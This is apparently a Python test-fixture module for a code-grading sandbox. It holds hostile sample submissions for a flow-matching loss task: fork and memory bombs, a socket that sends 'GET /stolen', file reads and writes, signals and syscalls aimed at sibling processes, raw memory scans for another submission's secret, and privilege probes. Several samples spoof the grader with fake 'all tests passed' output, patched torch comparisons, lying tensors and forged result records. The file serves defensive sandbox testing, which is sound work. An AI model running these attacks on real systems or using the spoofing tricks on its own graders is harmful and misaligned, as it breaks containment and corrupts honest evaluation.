"""Hostile submissions for the sandbox tests. Placeholders in {braces} are filled in by the tests.

Each attack defines `cfm_loss` (so that the grader gets as far as running tests) and does its
damage at import time, inside the function, or both. The tests check that every one is graded as
a failure, that it leaked nothing, and that no process of it survives.
"""

from __future__ import annotations

CORRECT_BODY = '''
def _honest(model, x_1, noise_fn):
    x_0 = noise_fn(x_1)
    t = torch.rand(x_1.shape[0])
    tb = t.view(-1, *[1] * (x_1.dim() - 1))
    x_t = (1 - tb) * x_0 + tb * x_1
    return ((model(x_t, t) - (x_1 - x_0)) ** 2).mean()
'''

INFINITE_LOOP = '''
import torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    while True:
        pass
'''

INFINITE_LOOP_AT_IMPORT = '''
import torch
while True:
    pass

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

MEMORY_BOMB = '''
import torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    hoard = []
    while True:
        hoard.append(bytearray(50 * 1024 * 1024))
'''

TENSOR_BOMB = '''
import torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.ones(10**6, 10**6).mean()
'''

FORK_BOMB = '''
import os, time, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    children = 0
    while True:
        pid = os.fork()
        if pid == 0:
            os.setsid()
            while True:
                os.fork()
        children += 1
'''

SPAWN_SHELL = '''
import subprocess, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    subprocess.run(["/bin/sh", "-c", "sleep 1000 &"])
    return torch.zeros(())
'''

# for the PID-namespace test (the process filter switched off): a few children that leave the
# session and outlive the worker unless the namespace takes them down
SETSID_CHILDREN = '''
import os, time, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(1000)
            os._exit(0)
    while True:
        time.sleep(0.1)
'''

SOCKET = '''
import socket, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    for host in ("127.0.0.1", "{host_ip}"):
        try:
            s = socket.create_connection((host, {port}), timeout=2)
            s.sendall(b"GET /stolen HTTP/1.0\\r\\n\\r\\n")
            print("CONNECTED", host)
        except OSError as exc:
            print("blocked", host, type(exc).__name__)
    return torch.zeros(())
'''

READ_FILES = '''
import os, torch

TARGETS = {targets!r}
DIRS = {dirs!r}

def _try():
    for path in TARGETS:
        try:
            with open(path, "rb") as f:
                print("LEAK", path, f.read(200))
        except OSError as exc:
            print("denied", path, type(exc).__name__)
    for path in DIRS:
        try:
            print("LIST", path, sorted(os.listdir(path))[:50])
        except OSError as exc:
            print("denied", path, type(exc).__name__)

_try()

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

WRITE_FILES = '''
import os, torch

TARGETS = {targets!r}

for path in TARGETS:
    try:
        with open(path, "w") as f:
            f.write("pwned")
        print("WROTE", path)
    except OSError as exc:
        print("denied", path, type(exc).__name__)
try:
    with open("/tmp/inside-is-fine", "w") as f:
        f.write("ok")
    print("tmp ok")
except OSError as exc:
    print("tmp denied", exc)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

OUTPUT_FLOOD = (
    '''
import torch
'''
    + CORRECT_BODY
    + '''
def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    for _ in range(200):
        print("spam" * 10_000)
    return _honest(model, x_1, noise_fn)
'''
)

SYS_EXIT_AT_IMPORT = '''
import sys, torch
print("all tests passed")
sys.exit(0)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

SYS_EXIT_IN_FUNCTION = '''
import sys, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    print("All 6 tests passed.")
    sys.exit(0)
'''

OS_EXIT = '''
import os, torch

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    print("PASS PASS PASS")
    os._exit(0)
'''

MONKEYPATCH = '''
import torch

torch.allclose = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.__ne__ = lambda self, other: False
torch.Tensor.__lt__ = lambda self, other: True
torch.Tensor.__le__ = lambda self, other: True
torch.Tensor.__gt__ = lambda self, other: False
torch.Tensor.__abs__ = lambda self: torch.zeros_like(self)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros((), requires_grad=True)
'''

FAKE_PASS_PRINT = '''
import torch
print("cfm_loss: all 6 tests passed.")
print("  PASS  1. the worked example")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    print("All tests passed.")
    return torch.tensor(0.025, requires_grad=True)
'''

LYING_OBJECT = '''
import torch

class Liar(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __float__(self): return 0.025

class LyingTensor(torch.Tensor):
    def __eq__(self, other): return True
    def tolist(self): return [0.025]
    def item(self): return 0.025

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    if x_1.shape[0] == 1:
        return Liar(99.0)
    return torch.Tensor._make_subclass(LyingTensor, torch.tensor(123.0), True)
'''

LYING_EXCEPTION = '''
import torch

class Sneaky(Exception):
    def __str__(self):
        raise RuntimeError("no message for you")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    raise Sneaky()
'''

RESULT_CHANNEL_BLIND = '''
import os, torch

for fd in range(3, 64):
    try:
        os.write(fd, b'{{"type": "done"}}\\n{{"type": "case", "case": "example", "calls": []}}\\n')
    except OSError:
        pass

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# the strongest forgery: find the worker's channel object (and so the nonce) and write a
# complete, well-formed record sequence with made-up numbers, then leave before the real one
RESULT_CHANNEL_FORGED = '''
import gc, os, torch

def _channel():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Channel" and hasattr(obj, "nonce") and hasattr(obj, "fd"):
            return obj
    return None

def _forge():
    channel = _channel()
    if channel is None:
        print("no channel found")
        return
    frame = __import__("sys")._getframe()
    job = None
    while frame is not None:
        if "job" in frame.f_locals and isinstance(frame.f_locals["job"], dict):
            job = frame.f_locals["job"]
            break
        frame = frame.f_back
    if job is None:
        print("no job found")
        return
    print("nonce", channel.nonce, flush=True)
    for case in job["cases"]:
        channel.send({{"type": "start", "case": case["id"]}})
        calls = [
            {{
                "output": {{"kind": "tensor", "shape": [], "dtype": "torch.float32", "values": [0.025],
                            "requires_grad": True}},
                "model_calls": [], "noise_calls": [], "seconds": 0.0,
            }}
            for _ in case["calls"]
        ]
        channel.send({{"type": "case", "case": case["id"], "calls": calls}})
    channel.send({{"type": "done"}})
    os._exit(0)

_forge()

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''


# ------------------------------------------------------------------------------------------------
# cross-learner attacks for fork-server mode: siblings forked from one zygote share its user ID and
# PID namespace, so these try to reach a sibling, the zygote, or what an earlier child left behind

# a correct solution that is still running when its attacking sibling strikes (it loads slowly)
SLOW_CORRECT = (
    '''
import time, torch
time.sleep({seconds})
'''
    + CORRECT_BODY
    + '''
def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return _honest(model, x_1, noise_fn)
'''
)

SIGNAL_EVERYONE = '''
import ctypes, errno, os, signal, time, torch

time.sleep(0.7)  # the sibling is running by now
me = os.getpid()
libc = ctypes.CDLL(None, use_errno=True)

def _name(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))

for label, pid in (("kill(-1)", -1), ("kill(0)", 0)):
    for sig in (signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(pid, sig)
            print("SENT", label, sig)
        except OSError as exc:
            print("refused", label, _name(exc))
sent = 0
refused = set()
for pid in range(1, 201):
    if pid == me:
        continue
    for send in (lambda p: os.kill(p, signal.SIGKILL), lambda p: os.kill(p, signal.SIGSTOP),
                 lambda p: os.killpg(p, signal.SIGKILL)):
        try:
            send(pid)
            sent += 1
        except OSError as exc:
            refused.add(_name(exc))
    for nr in (234, 297) if os.uname().machine == "x86_64" else (131, 240):  # tgkill, rt_tgsigqueueinfo
        if libc.syscall(nr, pid, pid, signal.SIGKILL, 0) == 0:
            sent += 1
        else:
            refused.add(errno.errorcode.get(ctypes.get_errno(), "?"))
print("signals to other pids sent:", sent, "refused with:", sorted(refused))
os.kill(me, 0)
print("signal to itself: allowed")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# other calls that take a process as their target, each tried on every other pid up to 200
OTHER_PROCESSES = '''
import ctypes, errno, os, resource, time, torch

time.sleep(0.7)
me = os.getpid()
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
NR = {  # syscall numbers (x86_64, aarch64) that Python does not wrap
    "pidfd_getfd": (438, 438), "pidfd_send_signal": (424, 424), "process_madvise": (440, 440),
    "kcmp": (312, 272), "ioprio_set": (251, 30), "migrate_pages": (256, 238), "move_pages": (279, 239),
    "get_robust_list": (274, 100), "process_vm_readv": (310, 270), "ptrace": (101, 117),
    "rt_sigqueueinfo": (129, 138),
}

def raw(name, *args):
    if libc.syscall(NR[name][0 if x86 else 1], *args) == -1:
        raise OSError(ctypes.get_errno(), name)

CALLS = {
    "prlimit": lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (1, 1)),
    "prlimit-read": lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE),
    "setpriority": lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
    "setpriority-user": lambda p: os.setpriority(os.PRIO_USER, 0, 19),
    "setpriority-group": lambda p: os.setpriority(os.PRIO_PGRP, p, 19),
    "sched_setaffinity": lambda p: os.sched_setaffinity(p, {0}),
    "sched_getaffinity": lambda p: os.sched_getaffinity(p),
    "sched_setscheduler": lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)),
    "sched_getparam": lambda p: os.sched_getparam(p),
    "getpgid": lambda p: os.getpgid(p),
    "getsid": lambda p: os.getsid(p),
    "pidfd_open": lambda p: os.pidfd_open(p),
    "pidfd_getfd": lambda p: raw("pidfd_getfd", 0, 3, 0),
    "pidfd_send_signal": lambda p: raw("pidfd_send_signal", 0, 9, 0, 0),
    "process_madvise": lambda p: raw("process_madvise", 0, 0, 0, 0, 0),
    "kcmp": lambda p: raw("kcmp", me, p, 0, 0, 0),
    "ioprio_set": lambda p: raw("ioprio_set", 3, 0, (3 << 13) | 7),
    "migrate_pages": lambda p: raw("migrate_pages", p, 64, 0, 0),
    "move_pages": lambda p: raw("move_pages", p, 0, 0, 0, 0, 0),
    "get_robust_list": lambda p: raw("get_robust_list", p, 0, 0),
    "process_vm_readv": lambda p: raw("process_vm_readv", p, 0, 0, 0, 0, 0),
    "ptrace": lambda p: raw("ptrace", 16, p, 0, 0),
    "rt_sigqueueinfo": lambda p: raw("rt_sigqueueinfo", p, 9, 0),
    "cpu-clock": lambda p: time.clock_gettime((~p << 3) | 2),
}
allowed = []
for name, call in CALLS.items():
    for pid in range(1, 201):  # the namespace's init, the zygote, the siblings, and pids to come
        if pid == me:
            continue
        try:
            call(pid)
            allowed.append((name, pid))
        except OSError as exc:
            if exc.errno != errno.EPERM:
                allowed.append((name, pid, errno.errorcode.get(exc.errno)))
print("ALLOWED" if allowed else "every call on another process: EPERM", allowed[:20])
# the same calls on itself still work (the filter is not a blanket refusal)
print("self:", resource.prlimit(0, resource.RLIMIT_NOFILE)[0] > 0, os.getpriority(os.PRIO_PROCESS, 0),
      len(os.sched_getaffinity(0)) > 0, time.clock_gettime(time.CLOCK_PROCESS_CPUTIME_ID) >= 0)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# leaves a file, an abstract unix socket and a SysV shared memory segment behind, and waits
LEAVE_TRACES = '''
import ctypes, os, socket, time, torch

with open("/tmp/{marker}.txt", "w") as f:
    f.write("SECRET-{marker}")
os.makedirs("/tmp/{marker}-dir/inner", exist_ok=True)
server = socket.socket(socket.AF_UNIX)
server.bind("\\0{marker}")
server.listen(4)
libc = ctypes.CDLL(None, use_errno=True)
segment = libc.shmget(0x5EC2E7, 4096, 0o1666)  # IPC_CREAT | 0666
print("left", sorted(os.listdir("/tmp")), "shm", segment >= 0)
time.sleep({seconds})

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

LOOK_FOR_TRACES = '''
import ctypes, os, socket, time, torch

time.sleep({delay})
print("tmp", sorted(os.listdir("/tmp")))
for path in ("/tmp/{marker}.txt", "/tmp/{marker}-dir"):
    print("FOUND" if os.path.exists(path) else "absent", path)
client = socket.socket(socket.AF_UNIX)
try:
    client.connect("\\0{marker}")
    print("FOUND socket")
except OSError as exc:
    print("no socket", type(exc).__name__)
libc = ctypes.CDLL(None, use_errno=True)
print("FOUND shm" if libc.shmget(0x5EC2E7, 0, 0) >= 0 else "no shm")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# an earlier submission's code carries a marker...
CARRIES_MARKER = '''
import torch
# {head}{tail}
SECRET = "{head}{tail}"

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(()) + len(SECRET)
'''

# ...and a later one searches its own memory for it: the Python heap (gc) and, page by page,
# the raw memory around every object and buffer it can find (read through a pipe, so that an
# unmapped page is an EFAULT, not a crash). The marker is split in two here and never spelled out
# whole in this process, except as CONTROL's reversed halves, which the search must find.
SEARCH_MEMORY = '''
import ctypes, gc, os, sys, torch

HEAD = "{head}"
TAIL = "{tail}"
CONTROL = HEAD[::-1] + TAIL[::-1]  # built at run time: this one is in memory

def _search(data, head, tail):
    i = data.find(head)
    while i >= 0:
        if data[i + len(head): i + len(head) + len(tail)] == tail:
            return True
        i = data.find(head, i + 1)
    return False

def _heap():
    found = {{"marker": False, "control": False}}
    for obj in gc.get_objects():
        items = obj.values() if isinstance(obj, dict) else obj if isinstance(obj, (list, tuple, set)) else ()
        for item in list(items):
            if isinstance(item, str):
                found["marker"] |= _search(item, HEAD, TAIL)
                found["control"] |= _search(item, HEAD[::-1], TAIL[::-1])
    return found

def _raw():
    r, w = os.pipe()
    chunk = 1 << 16
    buffers = [bytearray(n) for n in (100, 5000, 200_000, 5_000_000)]
    addresses = [id(o) for o in gc.get_objects()] + [ctypes.addressof((ctypes.c_char * len(b)).from_buffer(b)) for b in buffers]
    addresses += [id(CONTROL), id(sys.modules)]
    regions = sorted({{(a >> 22) + d for a in addresses for d in range(-4, 5)}})[:400]  # 4 MiB regions
    found = {{"marker": False, "control": False}}
    head, tail = HEAD.encode(), TAIL.encode()
    scanned = 0
    for region in regions:
        for offset in range(0, 1 << 22, chunk):
            address = (region << 22) + offset
            try:
                n = os.write(w, (ctypes.c_char * chunk).from_address(address))
            except OSError:
                continue
            data = os.read(r, n)
            scanned += n
            found["marker"] |= _search(data, head, tail)
            found["control"] |= _search(data, head[::-1], tail[::-1])
    return found, scanned

heap = _heap()
raw, scanned = _raw()
print("heap: marker", "FOUND" if heap["marker"] else "absent", "control", heap["control"])
print("raw: marker", "FOUND" if raw["marker"] else "absent", "control", raw["control"], "MiB", scanned >> 20)

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# looks for the zygote's control socket (or any descriptor it should not have) and tries to use it
FIND_CONTROL_SOCKET = '''
import os, socket, stat, struct, torch

open_fds, sockets, sent = [], [], []
for fd in range(0, 1024):
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    open_fds.append(fd)
    if stat.S_ISSOCK(mode):
        sockets.append(fd)
        try:
            s = socket.socket(fileno=os.dup(fd))
            s.send(struct.pack("=IIqd16s", 1, 99, 0, 0.0, b"evil"))  # a SPAWN
            sent.append(fd)
        except OSError:
            pass
print("fds", open_fds, "sockets", sockets, "sent", sent)
for path in ("/proc/1/fd", "/proc/self/fd", "/proc"):
    print("listing", path, "ok" if os.path.exists(path) else "missing")

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''

# what a child may still do with privileges: nothing
CAPABILITIES = '''
import ctypes, errno, os, socket, torch

libc = ctypes.CDLL(None, use_errno=True)

class Header(ctypes.Structure):
    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

class Data(ctypes.Structure):
    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32), ("inheritable", ctypes.c_uint32)]

data = (Data * 2)()
libc.capget(ctypes.byref(Header(0x20080522, 0)), ctypes.byref(data))
print("capabilities", [(d.effective, d.permitted, d.inheritable) for d in data])
print("ambient", sum(libc.prctl(47, 1, c, 0, 0) == 1 for c in range(64)),
      "bounding", sum(libc.prctl(23, c, 0, 0, 0) == 1 for c in range(64)))
print("dumpable", libc.prctl(3, 0, 0, 0, 0), "no_new_privs", libc.prctl(39, 0, 0, 0, 0))

def attempt(name, call):
    try:
        result = call()
    except OSError as exc:
        print("refused", name, errno.errorcode.get(exc.errno))
        return
    if result == -1:
        print("refused", name, errno.errorcode.get(ctypes.get_errno()))
    else:
        print("ALLOWED", name)

os.close(os.open("/tmp/mine", os.O_CREAT | os.O_WRONLY))
attempt("unshare-mount", lambda: libc.unshare(0x00020000))
attempt("unshare-user", lambda: libc.unshare(0x10000000))
attempt("mount", lambda: libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None))
attempt("umount", lambda: libc.umount2(b"/tmp", 2))
attempt("chroot", lambda: os.chroot("/tmp"))
attempt("sethostname", lambda: socket.sethostname("evil"))
attempt("chown", lambda: os.chown("/tmp/mine", 0, 0))
attempt("setuid", lambda: os.setuid(0))
attempt("mknod", lambda: os.mknod("/tmp/dev", 0o600 | 0o020000, os.makedev(1, 3)))
attempt("raise-nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, 0))

def cfm_loss(model, x_1: torch.Tensor, noise_fn=torch.randn_like):
    return torch.zeros(())
'''
